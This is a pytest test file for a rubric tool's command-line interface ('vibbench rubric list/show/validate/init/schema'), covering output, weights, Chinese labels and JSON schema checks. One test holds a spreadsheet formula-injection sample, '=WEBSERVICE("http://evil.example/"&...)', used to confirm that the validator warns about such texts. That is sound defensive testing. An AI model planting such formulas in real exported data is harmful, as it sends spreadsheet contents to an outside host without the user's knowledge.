"""``vibbench rubric list | show | validate | init | schema`` through the CLI."""

from __future__ import annotations

import json
import math
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from typer.testing import CliRunner

from tests.conftest import MINI_RUBRIC
from tests.rubric.conftest import CASES, parse_error_lines
from vibbench import cli
from vibbench.cli import app
from vibbench.cli_rubric import SCHEMA_FILE
from vibbench.rubric.loader import load_rubric
from vibbench.rubric.model import effective_weights

WIDE = {"COLUMNS": "250"}  # so that rich never wraps a line of the tree


def line_with(output: str, token: str) -> str:
    """The one output line where ``token`` appears as a whole word."""
    found = [
        line for line in output.splitlines() if re.search(rf"(?<![\w.]){re.escape(token)}(?![\w.])", line)
    ]
    assert len(found) == 1, (token, found)
    return found[0]


def json_keys(data: Any) -> Any:
    """YAML data as JSON would hold it: mapping keys (``levels: {0: ...}``) become strings."""
    if isinstance(data, dict):
        return {str(k): json_keys(v) for k, v in data.items()}
    if isinstance(data, list):
        return [json_keys(v) for v in data]
    return data


# libyaml, as the loader uses when it can: pure-Python PyYAML refuses `{en: How mature?}` in mini.yaml
_SAFE_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)


def read_yaml(path: Path) -> Any:
    return json_keys(yaml.load(path.read_text("utf-8"), Loader=_SAFE_LOADER))


# --------------------------------------------------------------------------- list


def test_list_shows_the_bundled_rubric_with_version_and_indicator_count(
    runner: CliRunner, vib_path: Path
) -> None:
    vib = load_rubric(vib_path, use_cache=False)
    n = sum(1 for _ in vib.indicators())

    result = runner.invoke(app, ["rubric", "list"])

    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    row = line_with(result.stdout, "vib")
    assert row.split()[:3] == ["vib", vib.version, str(n)]
    assert vib.title.get("en") in row


# --------------------------------------------------------------------------- show


def test_show_vib_in_chinese_has_pillar_names_and_effective_weights(
    runner: CliRunner, vib_path: Path
) -> None:
    vib = load_rubric(vib_path, use_cache=False)
    weights = effective_weights(vib)

    result = runner.invoke(app, ["rubric", "show", "vib", "--lang", "zh"], env=WIDE)

    assert result.exit_code == 0, result.output
    for pid, name in (("RD", "规则设计"), ("RC", "资源耦合"), ("PI", "项目孵化")):
        row = line_with(result.stdout, pid)
        assert name in row
        assert f"{weights[pid]:.1%}" in row
    for ind in vib.indicators():
        row = line_with(result.stdout, ind.id)
        assert ind.name.get("zh") in row
        assert f"{weights[ind.id]:.1%}" in row
        assert "参照" in row


def test_show_mini_gives_each_indicator_type_and_reference(runner: CliRunner) -> None:
    result = runner.invoke(app, ["rubric", "show", str(MINI_RUBRIC)], env=WIDE)

    assert result.exit_code == 0, result.output
    expected = {
        "A.X.1": ("level", "ref: 4 – Leading", "22.2%"),  # 2/3 · 1/2 · 2/3
        "A.X.2": ("number", "ref: 50%", "11.1%"),  # 2/3 · 1/2 · 1/3
        "A.Y.1": ("number", "ref: 5 years", "33.3%"),  # 2/3 · 1/2
        "B.Z.1": ("yes/no", "ref: yes", "16.7%"),  # 1/3 · 1/2
        "B.Z.2": ("number", "ref: 100 M EUR", "16.7%"),
    }
    for ident, parts in expected.items():
        row = line_with(result.stdout, ident)
        for part in parts:
            assert part in row, (ident, part, row)
    assert "claim" in result.stdout  # the checks


def test_show_mini_in_chinese(runner: CliRunner) -> None:
    result = runner.invoke(app, ["rubric", "show", str(MINI_RUBRIC), "--lang", "zh"], env=WIDE)

    assert result.exit_code == 0, result.output
    assert "数值  参照：5 年" in line_with(result.stdout, "A.Y.1")
    assert "等级  参照：4 – 领先" in line_with(result.stdout, "A.X.1")
    assert "参照：是" in line_with(result.stdout, "B.Z.1")
    assert "甲" in line_with(result.stdout, "A")


def test_show_of_an_unknown_rubric_is_one_error_line(runner: CliRunner) -> None:
    result = runner.invoke(app, ["rubric", "show", "no-such-rubric"])

    assert result.exit_code == 2
    assert "Traceback" not in result.output
    [line] = parse_error_lines(result.stderr)
    assert "no-such-rubric" in line["what"]


# --------------------------------------------------------------------------- validate


def test_validate_mini_prints_one_summary_line(runner: CliRunner) -> None:
    result = runner.invoke(app, ["rubric", "validate", str(MINI_RUBRIC)])

    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    [line] = result.stdout.splitlines()
    assert line.startswith("ok: ")
    assert "mini" in line and "5 indicators" in line


def test_validate_vib(runner: CliRunner, vib_path: Path) -> None:
    result = runner.invoke(app, ["rubric", "validate", str(vib_path)])

    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("ok: ")


FORMULA_TEXTS = ['=WEBSERVICE("http://evil.example/"&Institution!B2)', "+1", "-x", "@SUM(A1)"]


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_validate_warns_about_texts_a_spreadsheet_would_read_as_formulas(
    runner: CliRunner, tmp_path: Path, lang: str
) -> None:
    lines = MINI_RUBRIC.read_text("utf-8").splitlines()
    expected = []
    for n, line in enumerate(lines):
        if line.strip().startswith("name: {en: Alpha"):
            lines[n] = line.split("name:")[0] + f"name: {json.dumps(FORMULA_TEXTS[0])}"
            expected.append(n + 1)
        elif line.strip().startswith("source: test") and len(expected) < len(FORMULA_TEXTS):
            lines[n] = line.split("source:")[0] + f"source: {json.dumps(FORMULA_TEXTS[len(expected)])}"
            expected.append(n + 1)
    assert len(expected) == len(FORMULA_TEXTS)
    path = tmp_path / "formulas.yaml"
    path.write_text("\n".join(lines) + "\n", "utf-8")

    result = runner.invoke(app, ["rubric", "validate", str(path), "--lang", lang])

    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("ok: " if lang == "en" else "通过：")
    warned = [line for line in result.stderr.splitlines() if line]
    found = []
    for line in warned:
        m = re.fullmatch(r"warning: (.+):(\d+): (.+) — (.+)", line)
        assert m, line
        assert m[1].endswith("formulas.yaml")
        found.append(int(m[2]))
        assert ("formula" in m[3]) if lang == "en" else ("公式" in m[3])
    assert found == expected


def test_validate_of_the_bundled_rubric_warns_of_nothing(runner: CliRunner, vib_path: Path) -> None:
    result = runner.invoke(app, ["rubric", "validate", str(vib_path)])
    assert result.exit_code == 0
    assert result.stderr == ""


@pytest.mark.parametrize("name", ["missing.yaml", "folder"])
def test_validate_of_a_missing_file_or_a_folder(name: str, runner: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()

    result = runner.invoke(app, ["rubric", "validate", str(tmp_path / name)])

    assert result.exit_code == 2
    assert "Traceback" not in result.output
    [line] = parse_error_lines(result.stderr)
    assert line["where"].endswith(name)


def test_validate_a_file_that_is_not_utf8(runner: CliRunner, tmp_path: Path) -> None:
    path = tmp_path / "latin1.yaml"
    path.write_bytes("schema_version: 1\ntitle: Caf\xe9\n".encode("latin-1"))

    result = runner.invoke(app, ["rubric", "validate", str(path)])

    assert result.exit_code == 2
    assert "Traceback" not in result.output
    [line] = parse_error_lines(result.stderr)
    assert "UTF-8" in line.group(0)


def test_debug_does_not_leak_into_the_next_invocation(
    runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(cli._state, "debug", False)  # restored afterwards, whatever happens here
    bad = CASES / "invalid" / "negative-weight" / "rubric.yaml"
    first = runner.invoke(app, ["--debug", "rubric", "validate", str(bad)])
    assert first.exit_code != 0

    second = runner.invoke(app, ["rubric", "validate", str(bad)])

    assert second.exit_code == 2
    assert parse_error_lines(second.stderr)


# --------------------------------------------------------------------------- init


def test_init_writes_a_rubric_that_validates_and_whose_weights_take_effect(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, vib_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    out = Path("tmp") / "x.yaml"
    out.parent.mkdir()

    result = runner.invoke(app, ["rubric", "init", "--extends", "vib", "--output", str(out)])

    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    text = out.read_text("utf-8")
    assert text.startswith("# yaml-language-server: $schema=")
    assert (out.parent / SCHEMA_FILE).is_file()
    said = result.stderr.splitlines()  # both files written are named, in both languages
    assert [line for line in said if str(out) in line and "已写入" in line]
    assert [line for line in said if str(out.parent / SCHEMA_FILE) in line and "已写入" in line]
    check = runner.invoke(app, ["rubric", "validate", str(out)])
    assert check.exit_code == 0, check.output
    assert check.stdout.startswith("ok: ")

    before = effective_weights(load_rubric(out, use_cache=False))
    vib = load_rubric("vib", use_cache=False)
    assert before == pytest.approx(effective_weights(vib))  # weights as in vib until changed

    # The pillar weights as written in the file: `  RD: 33   # Rule design / 规则设计`
    written = {m[1]: float(m[2]) for m in re.finditer(r"^  (RD|RC|PI): ([0-9.]+)\b", text, re.M)}
    assert set(written) == {"RD", "RC", "PI"}
    new_rd = written["RD"] * 2
    changed = re.sub(r"^  RD: [0-9.]+", f"  RD: {new_rd:g}", text, count=1, flags=re.M)
    assert changed != text
    out.write_text(changed, "utf-8")

    after = effective_weights(load_rubric(out, use_cache=False))

    old_total = sum(written.values())
    new_total = old_total + new_rd - written["RD"]
    share = {p: (new_rd if p == "RD" else w) / new_total for p, w in written.items()}
    old_share = {p: w / old_total for p, w in written.items()}
    assert after["RD"] == pytest.approx(share["RD"])
    assert after["RC"] == pytest.approx(share["RC"])
    assert after["PI"] == pytest.approx(share["PI"])
    for ind in vib.indicators():  # everything below a pillar scales with it
        factor = share[ind.pillar] / old_share[ind.pillar]
        assert after[ind.id] == pytest.approx(before[ind.id] * factor), ind.id
    assert math.isclose(sum(after[i.id] for i in vib.indicators()), 1.0)


def test_init_output_conforms_to_the_schema_written_beside_it(runner: CliRunner, tmp_path: Path) -> None:
    out = tmp_path / "mine.yaml"
    assert runner.invoke(app, ["rubric", "init", "--output", str(out)]).exit_code == 0
    schema = json.loads((tmp_path / SCHEMA_FILE).read_text("utf-8"))
    first = out.read_text("utf-8").splitlines()[0]
    assert first == f"# yaml-language-server: $schema=./{SCHEMA_FILE}"

    jsonschema.Draft202012Validator(schema).validate(read_yaml(out))


def test_init_of_a_rubric_by_path_written_to_another_folder(runner: CliRunner, tmp_path: Path) -> None:
    out = tmp_path / "from-mini.yaml"  # the current folder is not tmp_path

    result = runner.invoke(app, ["rubric", "init", "--extends", str(MINI_RUBRIC), "--output", str(out)])

    assert result.exit_code == 0, result.output
    check = runner.invoke(app, ["rubric", "validate", str(out)])
    assert check.exit_code == 0, check.output
    rubric = load_rubric(out, use_cache=False)
    assert [i.id for i in rubric.indicators()] == ["A.X.1", "A.X.2", "A.Y.1", "B.Z.1", "B.Z.2"]


def test_init_of_a_rubric_by_path_in_the_current_folder(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "base.yaml").write_text(MINI_RUBRIC.read_text("utf-8"), "utf-8")
    monkeypatch.chdir(tmp_path)

    result = runner.invoke(app, ["rubric", "init", "--extends", "base.yaml", "--output", "mine.yaml"])

    assert result.exit_code == 0, result.output
    assert "extends: base.yaml" in Path("mine.yaml").read_text("utf-8")
    check = runner.invoke(app, ["rubric", "validate", "mine.yaml"])
    assert check.exit_code == 0, check.output


# --------------------------------------------------------------------------- schema


@pytest.fixture(scope="module")
def schema() -> dict[str, Any]:
    result = CliRunner().invoke(app, ["rubric", "schema"])
    assert result.exit_code == 0, result.output
    data: dict[str, Any] = json.loads(result.stdout)
    return data


def validator(schema: dict[str, Any]) -> jsonschema.Draft202012Validator:
    return jsonschema.Draft202012Validator(schema)


def test_schema_is_a_valid_json_schema(schema: dict[str, Any]) -> None:
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"


def test_schema_accepts_the_bundled_and_the_test_rubric(schema: dict[str, Any], vib_path: Path) -> None:
    validator(schema).validate(read_yaml(vib_path))
    validator(schema).validate(read_yaml(MINI_RUBRIC))


def test_schema_accepts_an_extends_file_with_only_weights_and_remove(schema: dict[str, Any]) -> None:
    validator(schema).validate({"extends": "vib", "weights": {"RD": 2, "RC.FUND.3": 0}, "remove": ["PI.OUT"]})


@pytest.mark.parametrize(
    "data",
    [
        pytest.param({"extends": "vib", "colour": "blue"}, id="extends-unknown-key"),
        pytest.param({"extends": "vib", "weights": {"RD": -1}}, id="extends-negative-weight"),
        pytest.param({"extends": "vib", "remove": "RD"}, id="extends-remove-not-a-list"),
        pytest.param({"extends": 3}, id="extends-not-a-string"),
        pytest.param(
            {"extends": "vib", "pillars": [{"id": "RD", "colour": "blue"}]}, id="extends-unknown-pillar-key"
        ),
    ],
)
def test_schema_rejects_bad_extends_files(schema: dict[str, Any], data: dict[str, Any]) -> None:
    assert not validator(schema).is_valid(data)


def test_schema_rejects_an_unknown_top_level_key(schema: dict[str, Any]) -> None:
    data = read_yaml(MINI_RUBRIC)
    data["colour"] = "blue"

    assert not validator(schema).is_valid(data)


def _case_data(kind: str, name: str) -> Any:
    return read_yaml(CASES / kind / name / "rubric.yaml")


@pytest.mark.parametrize("name", sorted(p.name for p in (CASES / "valid").iterdir() if p.is_dir()))
def test_schema_accepts_every_valid_case(schema: dict[str, Any], name: str) -> None:
    validator(schema).validate(_case_data("valid", name))


# The invalid cases whose problem a JSON Schema can see (the rest need the loader's checks).
SCHEMA_LEVEL = [
    "unknown-key-top-level",
    "unknown-key-in-indicator",
    "unknown-key-in-check",
    "negative-weight",
    "bad-horizon",
    "boolean-reference-not-bool",
    "missing-required-key",
    "text-with-unknown-language",
    "not-a-mapping",
    "scalar-document",
    "extends-negative-weight",
    "negative-pillar-weight",
    "extends-weight-not-a-number",
    "extends-not-a-string",
    "extends-remove-not-a-list",
    "extends-weights-not-a-mapping",
]


@pytest.mark.parametrize("name", SCHEMA_LEVEL)
def test_schema_rejects_what_it_can_see_of_the_invalid_cases(schema: dict[str, Any], name: str) -> None:
    assert not validator(schema).is_valid(_case_data("invalid", name))


def test_the_tree_view_is_a_pure_function_of_the_rubric(monkeypatch: pytest.MonkeyPatch) -> None:
    from vibbench.report.rubric_tree import rubric_tree

    monkeypatch.delenv("NO_COLOR", raising=False)
    rubric = load_rubric(MINI_RUBRIC, use_cache=False)

    plain = rubric_tree(rubric, "en", width=200)
    coloured = rubric_tree(rubric, "en", color=True, width=200)

    assert "\x1b[" not in plain and "\x1b[" in coloured
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain
    assert "A.X.1 A level  22.2%  level  ref: 4 – Leading" in plain
    assert rubric_tree(rubric, "zh", width=200).count("参照：") == 5
